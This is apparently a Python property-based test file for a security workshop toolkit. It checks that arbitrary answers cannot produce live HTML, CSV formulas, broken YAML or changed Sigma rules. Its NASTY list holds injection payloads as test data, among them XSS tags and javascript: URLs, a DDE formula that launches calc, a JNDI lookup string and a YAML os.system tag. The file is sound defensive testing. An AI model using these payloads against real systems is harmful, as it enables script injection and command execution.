"""Property-based injection tests: arbitrary text into answers, never live markup, formulas
or changed meaning in what the toolkit writes."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workshop.core import yamlsource
from workshop.core.csvsafe import FORMULA_START, safe_cell, to_csv
from workshop.core.errors import WorkshopError
from workshop.core.render import markdown_to_html, md_escape
from workshop.core.text import bad_character
from workshop.interview.io import parse_interview
from workshop.interview.model import Answer, Application
from workshop.services.catalogues import load_questionnaires
from workshop.services.usecases import load_templates
from workshop.usecases.documents import DocumentContext, analyst_brief, application_document
from workshop.usecases.generate import Inputs, generate_all
from workshop.usecases.model import UseCase

# Text a person could type, including markup, Markdown, YAML and spreadsheet syntax.
NASTY = st.sampled_from([
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "<a href='javascript:1'>",
    "![i](javascript:1)", "<javascript:alert(1)>", "=HYPERLINK(\"http://evil\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "{{7*7}}", "${jndi:ldap://x}", "key: value", "- item", "# heading", "!!python/object:os.system", "&lt;b&gt;",
    "`code`", "| a | b |", "---", "\t=1", "\r=1", "<style>*{}</style>", "<!-- c -->", "<svg onload=alert(1)>",
])  # fmt: skip
TEXT = st.one_of(
    st.text(max_size=200), st.lists(st.one_of(NASTY, st.text(max_size=20)), max_size=6).map("".join)
)

ALLOWED_BODY_TAGS = {
    "p",
    "br",
    "pre",
    "code",
    "ol",
    "ul",
    "li",
    "blockquote",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
}


class TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))


def tags_of(html: str) -> list[tuple[str, list]]:
    parser = TagCollector()
    parser.feed(html)
    return parser.tags


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_escaped_text_never_becomes_markup(text: str) -> None:
    body = markdown_to_html(md_escape(text), "t", toc=False).split("<body>", 1)[1]
    for tag, attrs in tags_of(body):
        assert tag in ALLOWED_BODY_TAGS, (tag, text)
        assert attrs == [], (tag, attrs, text)


def _assert_no_live_markup(html: str) -> None:
    for tag, attrs in tags_of(html):
        assert tag not in ("script", "img", "svg", "iframe", "object", "embed"), tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, name, value)


QUESTIONNAIRES = load_questionnaires()
TEMPLATES = load_templates(QUESTIONNAIRES)
Q = QUESTIONNAIRES.get("in-house-application")


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(summary=TEXT, name=TEXT, contact=TEXT, account=TEXT, worry=TEXT)
def test_documents_from_arbitrary_answers_have_no_live_markup(summary, name, contact, account, worry) -> None:
    values = {
        "purpose.summary": summary or "x",
        "auth.methods": ["local", "sso_saml"],
        "functions.sensitive": ["export", "payments", "approvals", "permission_changes"],
        "service.accounts": [{"name": account or "svc", "purpose": worry}],
        "response.contacts": [{"role": contact or "owner", "name": name, "email": contact}],
        "concerns.worries": worry,
        "data.most_sensitive": account or "salaries",
        "logging.source_name": contact,
    }
    answers = {k: Answer(k, v) for k, v in values.items()}
    app = Application("app", name.strip() or "App", description=summary)
    inputs = Inputs(app, answers, Q)
    docs = generate_all(TEMPLATES, inputs)
    ucs = [UseCase("app", tid, "accepted", generated=doc) for tid, doc in docs.items() if doc]
    assert ucs
    ctx = DocumentContext(app, None, Q, values)
    for md in (application_document(ucs, ctx), analyst_brief(ucs, ctx)):
        _assert_no_live_markup(markdown_to_html(md, "doc"))


@settings(max_examples=500, deadline=None)
@given(TEXT)
def test_csv_cells_cannot_start_a_formula(text: str) -> None:
    cell = safe_cell(text)
    plain_number = re.fullmatch(r"[+-]?\d+(\.\d+)?", text.strip()) is not None  # data, not a formula
    assert not cell.startswith(FORMULA_START) or cell.startswith("'") or plain_number
    rows = list(csv.reader(io.StringIO(to_csv(["h"], [[text]]))))
    assert rows[1][0] == cell
    stripped = rows[1][0].lstrip()
    assert not stripped.startswith(("=", "+", "@")) or rows[1][0].startswith("'") or plain_number


@settings(max_examples=150, deadline=None)
@given(summary=TEXT, note=TEXT, owner=st.text(max_size=60).filter(lambda s: s.isprintable()))
def test_interview_yaml_round_trips_any_text(summary: str, note: str, owner: str) -> None:
    doc = {
        "format": "use-case-workshop/interview",
        "format_version": 1,
        "application": {"slug": "app", "name": "App"},
        "interview": {"questionnaire": Q.id, "questionnaire_version": Q.version},
        "answers": {
            "purpose.summary": {"value": summary, "follow_up": {"owner": owner.strip(), "note": note}},
        },
    }
    # Blank text (form feeds and other white space alone) is no answer, so nothing of it is stored.
    kept_summary = summary if summary.strip() else ""
    refused = bad_character(kept_summary.replace("\t", " "), multiline=True) or bad_character(note, multiline=True)
    if refused:  # control, invisible and bidi characters are refused, never stored (issue 14)
        with pytest.raises(WorkshopError, match="control character"):
            parse_interview(yamlsource.dump(doc), "x.yaml", QUESTIONNAIRES)
        return
    parsed = parse_interview(yamlsource.dump(doc), "x.yaml", QUESTIONNAIRES)
    state = parsed.states.get("purpose.summary")
    expected_value = summary if summary.strip() else None  # empty text is no answer
    if state is None:
        assert expected_value is None and not owner.strip() and not note
        return
    assert state["value"] == expected_value
    assert state["follow_up_note"] == note
    assert state["follow_up_owner"] == owner.strip()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=TEXT, account=TEXT, note=TEXT, action=TEXT)
def test_sigma_rules_from_arbitrary_answers_stay_valid_and_mean_the_same(name, account, note, action) -> None:
    import yaml
    from sigma.collection import SigmaCollection

    from workshop.rules.sigma import RuleContext, build_rule_set

    values = {
        "auth.methods": ["local"],
        "auth.breakglass_accounts": [account or "bg"],
        "service.accounts": [{"name": account or "svc", "purpose": note}],
        "logging.event_names": [
            {"event": "authn_failure", "action": action.strip() or "auth.login", "outcome": "failure"}
        ],
        "logging.source_name": note,
        "functions.sensitive": ["payments", "approvals"],
    }
    answers = {k: Answer(k, v) for k, v in values.items()}
    app = Application("app", name.strip() or "App")
    docs = generate_all(TEMPLATES, Inputs(app, answers, Q))
    ctx = RuleContext(app, values)
    built = [
        tid for tid in ("brute-force-login", "breakglass-account-used", "self-approval") if docs.get(tid)
    ]
    assert "brute-force-login" in built and "breakglass-account-used" in built
    for tid in built:
        rs = build_rule_set(UseCase("app", tid, "accepted", generated=docs[tid]), ctx)
        text = rs.yaml()
        assert list(yaml.safe_load_all(text)) == [d.data for d in rs.docs]  # valid YAML, same meaning
        SigmaCollection.from_yaml(text)  # pySigma parses it
